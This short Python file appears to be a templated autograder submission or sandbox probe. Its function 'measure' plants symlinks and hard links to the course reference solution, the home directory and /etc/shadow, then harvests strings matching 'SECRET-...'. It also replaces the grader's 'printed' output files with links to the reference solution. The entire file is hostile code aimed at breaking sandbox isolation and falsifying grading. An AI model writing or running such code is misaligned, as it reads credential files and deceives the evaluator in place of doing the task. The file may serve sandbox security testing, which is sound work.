"""Lays links out of its folder, for itself to read and for the grader to follow when it cleans up."""

import os
import re


def measure(values, weight):
    found = set()
    targets = ["@COURSE@", "@COURSE@/assignment/reference.py", "@HOME@", "@OUT@", "/", "/etc/shadow"]
    for folder in (os.environ["TMPDIR"], os.getcwd(), os.path.dirname(os.path.abspath(__file__))):
        for number, target in enumerate(targets):
            for make in (os.symlink, os.link):
                link = f"{folder}/{make.__name__}-{number}"
                try:
                    make(target, link)
                except OSError:
                    continue
                try:
                    text = open(link).read()
                    found.update(re.findall(r"SECRET-[A-Z]+-\d+", text))
                except OSError:
                    pass
        for number in os.listdir(folder):
            if number.startswith("printed"):
                # The grader reads printed text from this file: let it lead elsewhere.
                try:
                    os.unlink(f"{folder}/{number}")
                    os.symlink("@COURSE@/assignment/reference.py", f"{folder}/{number}")
                except OSError:
                    pass
    print(*sorted(found))
    return sorted(found)
